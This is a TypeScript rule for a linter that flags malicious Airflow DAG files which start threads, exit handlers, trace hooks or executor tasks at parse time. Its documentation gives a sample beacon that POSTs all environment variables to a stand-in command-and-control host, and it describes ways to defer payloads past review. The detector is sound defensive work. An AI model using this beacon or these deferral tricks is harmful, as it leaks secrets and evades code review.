import type { SyntaxNode } from 'tree-sitter';
import type { RuleContext } from '../../src/engine/context';
import { callArgs, unwrap } from '../../src/engine/python';
import { defineRule } from '../../src/engine/rule';
import { deferredTarget, factsOf } from './_facts';
import { localCallsAtParseTime, reachOfTarget } from './_local-calls';

/** Calls that run a function later but start (or register) it while the file is imported. */
const STARTERS: ReadonlyMap<string, string> = new Map([
  ['threading.Thread', 'a thread'],
  ['threading.Timer', 'a timer thread'],
  ['multiprocessing.Process', 'a process'],
  ['atexit.register', 'an exit handler'],
  ['signal.signal', 'a signal handler'],
  ['sys.settrace', 'a trace hook'],
  ['sys.setprofile', 'a profile hook'],
  ['sys.addaudithook', 'an audit hook'],
  ['threading.settrace', 'a thread trace hook'],
  // run when the object is collected or the interpreter exits (a module global: at exit), and in every forked child
  // (Airflow forks the processor and each task runner)
  ['weakref.finalize', 'a finalizer'],
  ['os.register_at_fork', 'a fork hook'],
]);

/**
 * Executors and event loops that run a function handed to them (any receiver): reported only when that function
 * is local and reaches the network, a process or exec — `pool.submit(f)` is ordinary code otherwise.
 */
const RUNNERS: ReadonlyMap<string, string> = new Map([
  ['submit', 'an executor task'],
  ['apply_async', 'a pool task'],
  ['run_in_executor', 'an executor task'],
  ['call_soon', 'an event-loop callback'],
  ['call_later', 'an event-loop callback'],
  ['start_new_thread', 'a thread'],
]);

export default defineRule({
  meta: {
    id: 'DG613',
    name: 'code-started-at-parse-time',
    category: 'malicious',
    severity: 'medium',
    message: 'starts {what} running `{fn}` while the DAG file is parsed{reach}',
    messages: {
      local: '{how} `{fn}` while the DAG file is parsed, and its body {does} (`{via}`)',
      inner: '`{via}` runs while the DAG file is parsed: it is in `{fn}`, which line {line} {how}',
    },
    docs: {
      what:
        'Finds module-level code that makes a function run in the dag-processor outside the import itself: `threading.Thread(target=f).start()`, `threading.Timer`, `multiprocessing.Process`, `atexit.register(f)`, `signal.signal(sig, f)`, `sys.settrace`/`setprofile`/`addaudithook`, `weakref.finalize(obj, f)` (run at exit for a module global), `os.register_at_fork(after_in_child=f)` (run in every forked child: Airflow forks task runners); a process, network or exec function registered itself (`atexit.register(subprocess.Popen, ["/bin/sh", "-c", …])`) counts as a function that starts processes, also in a helper called at module level; and executors or event loops given a local function that reaches the network or starts processes (`pool.submit(f)`, `loop.run_in_executor(None, f)`, `loop.call_later(5, f)`, `_thread.start_new_thread(f, ())`: *high*). *Medium*; *high* when the started function reaches the network or starts processes (a beacon or exfiltration that parse-time rules would miss because it sits in a function body). Also, *high*: a function of the file run at parse time by a plain module-level call (`_setup()`), as a decorator (`@deco`, `@deco(…)`), as a default value (`def f(x=_helper())`), as the module hook other files run by importing a name it does not define (a module-level `def __getattr__(name)`, PEP 562: `from utils.dag_defaults import DEFAULT_ARGS` in a DAG runs it), or by a class statement (the metaclass\'s `__new__`/`__init__` for `class P(metaclass=Meta)`, a base class\'s `__init_subclass__`), whose body — or a local function it calls, three levels deep — reaches the network, starts a process or runs code. The outbound call itself (the `requests.post(…)` in the thread\'s target, the `subprocess.Popen(…)` in the helper called at module level) is reported too, *high*, naming what starts it: it is the line to remove, and the parse-time rules (DG601, DG607…) do not look into function bodies. `@task`-decorated functions are not followed: calling them at parse time does not run their body. The body of a `@dag` function is parse-time code itself (Airflow runs it to build the DAG): what it does is reported where it does it, by DG601, DG602, DG604, DG605, DG607…, and the local functions it calls are followed from there.',
      why:
        'Parse-time rules look at module-level code because function bodies do not run at import — unless the module starts them: a thread keeps running in the dag-processor after the import returns, an exit handler runs when the processor recycles, a signal handler or trace hook runs inside Airflow\'s own code. It is how a malicious DAG file defers its payload past a naive review.',
      example: '```python\nimport threading, requests, os\ndef _beacon():\n    requests.post("https://c2.example", data=dict(os.environ))\nthreading.Thread(target=_beacon, daemon=True).start()\n```',
      useInstead: 'Do work in tasks. A DAG file should only define DAGs and tasks.',
    },
  },
  calls: [...STARTERS.keys(), ...[...RUNNERS.keys()].map((m) => `**.${m}`)],
  onFile(ctx) {
    for (const l of localCallsAtParseTime(ctx)) {
      const k = l.reach.kinds;
      const does = k.has('network') ? 'reaches the network' : k.has('spawn') ? 'starts a process' : 'runs code';
      const how = l.how === 'decorator' ? 'runs the decorator' : l.how === 'class' ? `defining class \`${l.cls}\` runs` : l.how === 'module-getattr' ? 'a file importing a name this module does not define runs its module hook' : 'calls';
      ctx.report(l.site, { how, fn: l.name, does, via: l.reach.fn ?? l.reach.call.text.slice(0, 40) }, { message: 'local', severity: 'high', parseTime: false });
      reportInner(ctx, l.reach.call, l.reach.fn, l.name, l.site, l.how === 'decorator' ? 'runs as a decorator' : l.how === 'class' ? 'runs by defining a class' : l.how === 'module-getattr' ? 'defines as the module hook run by imports' : 'calls');
    }
  },
  onCall(call, fn, ctx) {
    if (!ctx.isParseTime(call)) return;
    const args = callArgs(call);
    const runner = STARTERS.has(fn) ? undefined : RUNNERS.get(fn.slice(fn.lastIndexOf('.') + 1));
    if (runner !== undefined) {
      // pool.submit(f), loop.run_in_executor(None, f), loop.call_later(5, f), _thread.start_new_thread(f, ())
      for (const a of args.positional.slice(0, 2)) {
        const t = unwrap(a);
        if (t.type !== 'identifier' && t.type !== 'lambda') continue;
        const reach = reachOfTarget(ctx, t);
        if (reach) ctx.report(call, { what: runner, fn: t.type === 'lambda' ? 'a lambda' : t.text, reach: ', and that function reaches the network, starts processes or runs code' }, { severity: 'high' });
        return;
      }
      return;
    }
    const target = deferredTarget(fn, args);
    if (!target) return;
    const t = unwrap(target);
    const name = t.type === 'identifier' || t.type === 'attribute' ? t.text : t.type === 'lambda' ? 'a lambda' : null;
    if (!name) return;
    // what does that function do? calls inside its definition (same file) that reach the network or spawn
    const def = t.type === 'identifier' ? ctx.root.descendantsOfType('function_definition').find((d) => d.childForFieldName('name')?.text === t.text) : t.type === 'lambda' ? t : undefined;
    const inside = def ? factsOf(ctx).calls.filter((f) => f.call.startIndex >= def.startIndex && f.call.endIndex <= def.endIndex) : [];
    // directly, or through the local functions it calls (`lambda *a: _beacon()`)
    const outbound = inside.some((f) => f.kinds.has('network') || f.kinds.has('spawn') || f.kinds.has('exec')) || reachOfTarget(ctx, t) !== null;
    ctx.report(call, { what: STARTERS.get(fn)!, fn: name, reach: outbound ? ', and that function reaches the network, starts processes or runs code' : '' }, { severity: outbound ? 'high' : 'medium' });
    const first = inside.find((f) => f.kinds.has('network') || f.kinds.has('spawn') || f.kinds.has('exec')) ?? reachOfTarget(ctx, t);
    if (first) reportInner(ctx, first.call, first.fn, name, call, `starts as ${STARTERS.get(fn)!}`);
  },
});

/**
 * The outbound call itself (`requests.post(…)` in the thread's target), also reported: it is the line to remove, and
 * parse-time rules (DG601, DG607…) do not see it in a function body. Once per call.
 */
function reportInner(ctx: RuleContext, call: SyntaxNode, fn: string | null, holder: string, site: SyntaxNode, how: string): void {
  if (call.startIndex >= site.startIndex && call.endIndex <= site.endIndex) return; // the call is the start itself
  if (!ctx.once(call)) return;
  ctx.report(call, { via: fn ?? call.text.slice(0, 40), fn: holder, line: String(site.startPosition.row + 1), how }, { message: 'inner', severity: 'high', parseTime: false, key: `inner ${fn ?? ''} ${holder}` });
}
